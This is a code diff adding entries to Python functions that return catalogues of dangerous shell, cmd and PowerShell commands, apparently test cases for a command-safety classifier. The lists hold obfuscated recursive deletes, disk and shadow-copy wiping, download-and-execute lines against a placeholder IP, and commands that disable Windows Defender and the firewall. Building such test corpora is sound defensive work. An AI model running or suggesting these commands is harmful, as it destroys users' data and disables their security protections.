@@ -94,7 +94,7 @@ def text_as_code() -> list[str]:
                 f"sh < <(curl -s {u})", f"bash <(curl -s {u})", f"curl {u} | awk '{{system($0)}}'",
                 f"curl -s {u} | sed 's/^//e'", f"source <(curl -s {u})", f". <(wget -qO- {u})", f"curl {u} | python3",
                 f"eval \"$(curl -fsSL {u})\""]
-    out += ["x=rm; y=x; ${!y} -rf /*", "/bin/r? -rf /*", "/usr/bin/r* -rf ~", "a=(rm -rf ~); ${a[@]}", "$CMD -rf /",
+    out += ["IFS=,; c='rm,-rf,/'; $c", "x=rm; y=x; ${!y} -rf /*", "/bin/r? -rf /*", "/usr/bin/r* -rf ~", "a=(rm -rf ~); ${a[@]}", "$CMD -rf /",
             "\"$1\" -rf ~", "eval $PAYLOAD", "eval \"$REMOTE_CMD\"", "$(cat /tmp/cmd.txt) ~", "coproc rm -rf ~",
             "xxd -r -p <<< 726d202d7266207e | sh", "gzip -dc /tmp/p.gz | sh"]
     return out
@@ -190,7 +190,8 @@ def windows() -> list[tuple[str, str]]:
            "vssadmin delete shadows /all /quiet", "bcdedit /delete {current}", "reg delete HKLM\\SOFTWARE /f", "cipher /w:C:\\",
            "taskkill /f /im *", "takeown /f C:\\Windows /r /d y", "icacls C:\\ /grant Everyone:F /t", "rmdir/s/q %USERPROFILE%",
            "del /s /q \"%USERPROFILE%\\*\"", "wmic shadowcopy delete", "net user administrator /active:yes", "diskpart /s wipe.txt",
-           "shutdown /s /f /t 0", "sc delete WinDefend", "netsh advfirewall set allprofiles state off", "powershell -c \"rm -r -fo C:\\\""]
+           "shutdown /s /f /t 0", "sc delete WinDefend", "netsh advfirewall set allprofiles state off", "powershell -c \"rm -r -fo C:\\\"",
+           "forfiles /p C:\\Users /s /m *.* /c \"cmd /c del @path\""]
     ps = ["Get-Item C:\\ | Remove-Item -Recurse -Force", "[IO.Directory]::Delete('C:\\',$true)", "gci -r C:\\ | % { $_.Delete() }",
           "& ('Remove-'+'Item') C:\\ -Recurse -Force", "Set-Alias x Remove-Item; x C:\\ -Recurse -Force", "[scriptblock]::Create('rm -r -fo C:\\').Invoke()",
           "sal x iex; x (irm http://203.0.113.9/a)", "Remove-Item HKLM:\\SYSTEM\\CurrentControlSet -Recurse -Force",
@@ -202,7 +203,10 @@ def windows() -> list[tuple[str, str]]:
           "Set-MpPreference -DisableRealtimeMonitoring $true", "Get-Process | Stop-Process -Force", "$c='Remove-Item'; & $c C:\\ -Recurse",
           ". ([scriptblock]::Create((irm http://203.0.113.9/a)))", "&(gcm I*x) 'rm -r -fo C:\\'", "Invoke-Command -ScriptBlock { ri C:\\ -r -fo }",
           "Remove-Item HKCU:\\Software -Recurse", "[Diagnostics.Process]::Start('cmd','/c rd /s /q C:\\')", "Stop-Process -Name winlogon -Force",
-          "Start-Process cmd -ArgumentList '/c rd /s /q C:\\'", "Remove-Item -Path C:\\* -Recurse -Force"]
+          "Start-Process cmd -ArgumentList '/c rd /s /q C:\\'", "Remove-Item -Path C:\\* -Recurse -Force",
+          "powershell -NoProfile -ExecutionPolicy Bypass -Command \"Remove-Item C:\\ -Recurse -Force\"",
+          "Invoke-WebRequest http://203.0.113.9/a.ps1 -OutFile a.ps1; .\\a.ps1", "Disable-NetAdapter -Name * -Confirm:$false",
+          "Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend -Name Start -Value 4"]
     return [(c, "cmd") for c in cmd] + [(p, "powershell") for p in ps]
 
 
